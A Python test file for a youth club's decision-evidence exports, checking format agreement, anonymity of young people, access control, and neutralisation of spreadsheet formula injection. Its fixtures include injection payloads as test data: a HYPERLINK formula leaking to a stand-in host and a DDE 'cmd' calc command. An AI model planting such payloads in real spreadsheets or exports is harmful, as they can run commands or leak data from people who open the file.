"""The evidence exports: CSV, JSON, XLSX and the PDF pack tell the same story, name no young
person, keep text from running as a spreadsheet formula, and download from the evidence page."""

import csv
import io
import json
import re
import zipfile
from datetime import timedelta
from typing import Any

import openpyxl
import pytest
from pypdf import PdfReader

from server import clock as clock_module
from server.accounts.models import User
from server.ladder import decisions, evidence, exports
from server.ladder.rungs import RUNGS
from tests.accounts.helpers import heading
from tests.campaigns.pages import join, message, say
from tests.ladder.test_decisions import Setup, choose, poll_by
from tests.ladder.test_decisions import setup as setup  # the fixture

HYPERLINK = '=HYPERLINK("http://evil.example/?leak","Click for the minutes")'
COMMAND = "+cmd|' /C calc'!A0 we want the stop moved"
MINUS = "-2 buses a day is not enough"
AMEND_REASON = "The council corrected its minutes."
WE_DID = "@SUM(1+1) The council moved the stop to the gate."
YOUNG = {"zquill": "Zebedee Quill", "jade": "Jade Marchbank", "sam": "Samphire Oduya",
         "kai": "Kaito Brightwater", "ben": "Benedikt Longfellow"}


def days_ago(n: int) -> str:
    return (clock_module.now().date() - timedelta(days=n)).isoformat()


@pytest.fixture
def pack(setup: Setup, make_user, db, riverside) -> Setup:
    """Four decisions across two campaigns and three months: a poll young people ran and
    followed, confirmed, published and amended; a thread Zebedee started that adults acted on,
    with its Lundy check; a decision in Ben's campaign; and an old one."""
    zquill = make_user(riverside["org"], "zquill", "young_person", "16_17",
                       display_name=YOUNG["zquill"])
    setup.users["zquill"] = zquill
    join(db, zquill, setup.campaign)
    with db.write() as session:
        for username, name in YOUNG.items():
            user = session.get(User, setup.users[username].id)
            assert user is not None
            user.display_name = name
            session.add(user)

    poll = poll_by(setup, "jade")
    for name in ("sam", "kai", "zquill"):
        choose(setup, name, poll, "Library")
    bound = setup.record(poll_ids=[poll.id], poll_bound_outcome=True, decided_on=days_ago(70),
                         title=HYPERLINK, you_said=COMMAND)
    setup.do(decisions.confirm_decision, "worker", decision_id=bound.id)
    setup.do(decisions.publish_we_did, "jade", decision_id=bound.id, we_did=WE_DID)
    setup.do(decisions.amend_decision, "worker", decision_id=bound.id,
             data={"details": "Agreed at the March meeting."}, reason=AMEND_REASON)

    thread = say(db, zquill, setup.campaign, "Please move the stop, Zebedee here")
    told = setup.record("worker", thread_ids=[thread["id"]], decided_on=days_ago(10),
                        title="Adults moved the stop", you_said=MINUS,
                        lundy={"space": {"met": True, "note": "A safe youth club evening"},
                               "influence": {"met": False}})
    with db.write() as session:
        decisions.record_decision(session, actor=setup.as_("ben"), campaign_id=setup.other.id,
                                  data={"title": "Longer library hours",
                                        "decided_on": days_ago(40), "decided_by": "together",
                                        "suggestions_taken_up": True})
    setup.record("worker", title="Posters in the corridor", decided_on=days_ago(38),
                 decided_by="adults")
    setup.bound, setup.told = bound, told  # type: ignore[attr-defined]
    return setup


def gather(setup: Setup, name: str = "worker", **params: str) -> evidence.Evidence:
    with setup.db.read() as session:
        actor = setup.as_(name)
        return evidence.gather(session, actor, evidence.read_filter(session, actor, params))


# ---------------------------------------------------------------- reading the files back


def csv_rows(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff")  # so Excel reads it as UTF-8
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def workbook(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def sheet_rows(book: openpyxl.Workbook, name: str) -> list[dict[str, Any]]:
    rows = list(book[name].iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def rung_totals(book: openpyxl.Workbook) -> dict[str, Any]:
    """The "Rung totals" sheet's (what, number) rows, under its "What" heading."""
    rows = list(book["Rung totals"].iter_rows(values_only=True))
    start = next(i for i, row in enumerate(rows) if row[:2] == ("What", "Number"))
    return {row[0]: row[1] for row in rows[start + 1:]}


def pdf_text(data: bytes) -> str:
    assert data.startswith(b"%PDF-")
    reader = PdfReader(io.BytesIO(data))
    return " ".join(" ".join((page.extract_text() or "").split()) for page in reader.pages)


def all_text(found: evidence.Evidence) -> dict[str, str]:
    """Every format's text, as a person or a program reading it would see it."""
    book = workbook(exports.to_xlsx(found))
    cells = " ".join(str(cell) for sheet in book.worksheets
                     for row in sheet.iter_rows(values_only=True) for cell in row
                     if cell is not None)
    return {"csv": exports.to_csv(found), "json": exports.to_json(found), "xlsx": cells,
            "pdf": pdf_text(exports.to_pdf(found))}


# ---------------------------------------------------------------- the formats agree


def test_csv_xlsx_and_json_agree_on_every_decision_and_total(pack):
    found = gather(pack)
    data = json.loads(exports.to_json(found))
    rows = csv_rows(exports.to_csv(found))
    book = workbook(exports.to_xlsx(found))
    sheet = sheet_rows(book, "Decisions")

    assert data["schema_version"] == evidence.SCHEMA_VERSION == "1.0"
    assert len(data["decisions"]) == len(rows) == len(sheet) == 4
    assert list(rows[0]) == list(sheet[0]) == exports.HEADER
    for decision, row, cells in zip(data["decisions"], rows, sheet, strict=True):
        assert int(row["decision_id"]) == cells["decision_id"] == decision["id"]
        # CSV text that could run as a formula carries an apostrophe; the XLSX keeps the
        # text exactly, as a text cell.
        assert row["decision"].removeprefix("'") == cells["decision"] == decision["title"]
        assert row["rung"] == cells["rung"] == decision["rung_label"]
        assert int(row["rung_rank"]) == cells["rung_rank"] == decision["rung_rank"]
        for key in ("young_people", "ballots", "comments"):
            assert int(row[key]) == cells[key] == decision["involvement"][key]
        for band, n in decision["involvement"]["age_bands"].items():
            assert int(row[f"age_{band}"]) == cells[f"age_{band}"] == n
        assert row["confirmed"] == cells["confirmed"] == (
            "yes" if decision["confirmed"] else "no")
        assert int(row["amendments"]) == cells["amendments"] == len(decision["amendments"])

    totals = rung_totals(book)
    for rung in RUNGS:
        assert totals[rung.label] == data["totals"]["per_rung"][rung] == sum(
            1 for row in rows if row["rung"] == rung.label)
    assert totals["Decisions"] == data["totals"]["decisions"] == 4
    assert totals["At Participation or above"] == data["totals"]["at_least_participation"]
    assert totals["Share at Participation or above"] == found.totals.share_text
    assert totals["Young people (distinct)"] == data["totals"]["young_people"] == 3
    assert totals["Age: 16 or 17"] == data["totals"]["age_bands"]["16_17"] == 1  # Zebedee
    campaigns = sheet_rows(book, "Campaigns")
    assert [(c["campaign_id"], c["decisions"]) for c in campaigns] == [
        (c["id"], c["totals"]["decisions"]) for c in data["campaigns"]]


def test_the_pdf_pack_shows_every_decision_the_totals_and_the_share(pack):
    found = gather(pack)
    text = pdf_text(exports.to_pdf(found))
    assert "Riverside Youth Club" in text
    assert found.filter.period in text  # "All dates" on the cover
    for row in found.decisions:
        assert row.title in text
        assert row.rung.label in text
    for rung in RUNGS:  # the chart's numbers, as a table
        assert f"{rung.label} {found.totals.per_rung[rung]}" in text
    assert f"Share of decisions at Participation or above: {found.totals.share_text}" in text
    assert f"Young people (distinct) {found.totals.young_people}" in text
    assert "Age: 16 or 17 1" in text  # Zebedee
    for month, counts in found.months:
        assert f"{month} " + " ".join(str(counts[r]) for r in RUNGS) in text
    # Each decision's story, with the Lundy note and what was done.
    assert "You said: " + COMMAND in text
    assert "We did: " + WE_DID in text
    assert "A safe youth club evening" in text


def test_a_filtered_pack_names_its_campaign_and_period(pack):
    found = gather(pack, campaign=str(pack.other.id), **{"from": days_ago(60),
                                                         "to": days_ago(1)})
    assert [row.title for row in found.decisions] == ["Longer library hours"]
    text = pdf_text(exports.to_pdf(found))
    assert f"Campaign: {pack.other.title}" in text
    assert f"Period: {found.filter.period}" in text
    assert HYPERLINK not in text
    assert exports.filename(found, "pdf") == (
        f"evidence-riverside-youth-club-longer-library-hours-{days_ago(60)}-to-"
        f"{days_ago(1)}.pdf")


def test_amendments_appear_in_every_format(pack):
    texts = all_text(gather(pack))
    for fmt, text in texts.items():
        assert AMEND_REASON in text, fmt
        assert "Agreed at the March meeting." in text, fmt
    [row] = [r for r in csv_rows(texts["csv"]) if r["amendments"] == "1"]
    assert row["amendment_history"].startswith(clock_module.now().strftime("%Y-%m-%d") +
                                               " by Worker: " + AMEND_REASON)


def test_no_young_person_is_named_in_any_format(pack):
    found = gather(pack)
    texts = all_text(found)
    raw = {"xlsx": exports.to_xlsx(found), "pdf": exports.to_pdf(found)}
    for fmt, text in texts.items():
        for username, name in YOUNG.items():
            for word in (username, *name.split()):
                assert not re.search(rf"\b{re.escape(word)}\b", text, re.IGNORECASE), (
                    fmt, word)
    # Nor anywhere inside the files' bytes (the XLSX is a zip of XML).
    with zipfile.ZipFile(io.BytesIO(raw["xlsx"])) as archive:
        inside = b"".join(archive.read(name) for name in archive.namelist())
    for blob in (inside, raw["pdf"]):
        assert b"zquill" not in blob.lower() and b"zebedee" not in blob.lower()
    # They are counted, though.
    assert found.totals.young_people == 3


def test_text_that_would_run_as_a_formula_is_plain_text(pack):
    found = gather(pack)
    rows = csv_rows(exports.to_csv(found))
    bound = next(r for r in rows if r["decision_id"] == str(pack.bound.id))
    assert bound["decision"] == "'" + HYPERLINK
    assert bound["you_said"] == "'" + COMMAND
    assert bound["we_did"] == "'" + WE_DID
    told = next(r for r in rows if r["decision_id"] == str(pack.told.id))
    assert told["you_said"] == "'" + MINUS
    # Our own numbers stay numbers.
    assert bound["young_people"] == "3"

    book = workbook(exports.to_xlsx(found))
    formulas = [cell.coordinate for sheet in book.worksheets for row in sheet.iter_rows()
                for cell in row if cell.data_type == "f"]
    assert formulas == []
    sheet = book["Decisions"]
    header = [cell.value for cell in sheet[1]]
    cells = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    title = cells[pack.bound.id][header.index("decision")]
    assert (title.value, title.data_type, title.quotePrefix) == (HYPERLINK, "s", True)
    said = cells[pack.told.id][header.index("you_said")]
    assert (said.value, said.data_type, said.quotePrefix) == (MINUS, "s", True)
    with zipfile.ZipFile(io.BytesIO(exports.to_xlsx(found))) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml and b"<f " not in xml


def test_no_decisions_still_makes_every_file(pack):
    found = gather(pack, **{"from": days_ago(5), "to": days_ago(2)})
    assert found.decisions == []
    assert len(csv_rows(exports.to_csv(found))) == 0
    assert json.loads(exports.to_json(found))["totals"]["share_at_least_participation"] is None
    assert sheet_rows(workbook(exports.to_xlsx(found)), "Decisions") == []
    assert "No decisions in this period." in pdf_text(exports.to_pdf(found))


def test_filenames_and_media_types():
    assert exports.read_format("PDF") == "pdf"
    assert exports.read_format("") == "json"
    assert exports.read_format("docx") is None
    assert exports.FORMATS["xlsx"][0].endswith("spreadsheetml.sheet")


# ---------------------------------------------------------------- the download links


def test_staff_download_each_format_from_the_evidence_page(pack, as_user):
    browser = as_user("worker")
    for fmt, (media_type, extension) in exports.FORMATS.items():
        response = browser.get(f"/evidence/export.{fmt}",
                               params={"from": days_ago(80), "campaign": str(pack.id)})
        assert response.status_code == 200, response.text
        assert response.headers["content-type"] == media_type
        assert response.headers["content-disposition"] == (
            f'attachment; filename="evidence-riverside-youth-club-'
            f'{pack.campaign.title.lower().replace(" ", "-")}-{days_ago(80)}-to-'
            f'{clock_module.now().date().isoformat()}.{extension}"')
    data = browser.get("/evidence/export.json", params={"campaign": str(pack.id)}).json()
    assert [d["title"] for d in data["decisions"]] == [
        HYPERLINK, "Posters in the corridor", "Adults moved the stop"]
    assert as_user("admin").get("/evidence/export.csv").text.count("\n") == 5


def test_download_needs_login(pack, client):
    response = client.get("/evidence/export.csv")
    assert response.status_code == 303
    assert response.headers["location"] == "/login?next=/evidence/export.csv"


def test_young_people_cannot_download_evidence(pack, as_user):
    response = as_user("jade").get("/evidence/export.pdf")
    assert response.status_code == 403
    assert heading(response) == "You can't do that"


def test_another_organisations_campaign_is_not_found(pack, as_user):
    response = as_user("hilda").get("/evidence/export.csv", params={"campaign": str(pack.id)})
    assert response.status_code == 404
    assert message(response) == evidence.NO_CAMPAIGN
    # And their own evidence has none of Riverside's decisions.
    assert as_user("hilda").get("/evidence/export.json").json()["decisions"] == []


def test_bad_dates_are_explained_with_what_was_typed(pack, as_user):
    response = as_user("worker").get("/evidence/export.xlsx",
                                     params={"from": "last week", "campaign": "abc"})
    assert response.status_code == 422
    assert heading(response) == "Check what you typed"
    said = message(response)
    assert "First day (you gave \u201clast week\u201d): Give the first day as a date" in said
    assert "Campaign (you gave \u201cabc\u201d): Choose a campaign from the list." in said
    backwards = as_user("worker").get("/evidence/export.csv",
                                      params={"from": "2026-05-01", "to": "2026-04-01"})
    assert backwards.status_code == 422
    assert "The last day cannot be before the first day." in message(backwards)


def test_an_unknown_format_is_not_found(pack, as_user):
    response = as_user("worker").get("/evidence/export.docx")
    assert response.status_code == 404
    assert "CSV, JSON, XLSX or PDF" in message(response)


def test_the_schema_document_lists_every_column_and_field(pack):
    from pathlib import Path

    doc = (Path(__file__).parents[2] / "docs" / "evidence-schema.md").read_text()
    assert f"`schema_version` is `\"{evidence.SCHEMA_VERSION}\"`" in doc
    for column in exports.HEADER:
        assert f"| `{column}` |" in doc, column
    data = json.loads(exports.to_json(gather(pack)))
    for name in (*data, *data["filter"], *data["totals"], *data["decisions"][0]):
        assert f"| `{name}` |" in doc, name


def test_the_pdf_pack_writes_welsh_letters(setup: Setup) -> None:
    if exports.fonts()[0] == "Helvetica":
        pytest.skip("no DejaVu Sans on this machine (Debian: fonts-dejavu-core): the pack "
                    "falls back to Helvetica, which draws Latin-1 only")
    title = "Llwybr i'r ŵyl a'r ŷd: tŷ ieuenctid"
    setup.record(title=title, you_said="Mae'n bwysig i ni gael llais", decided_on=days_ago(3))
    text = pdf_text(exports.to_pdf(gather(setup)))
    assert title in text
    assert "Mae'n bwysig i ni gael llais" in text
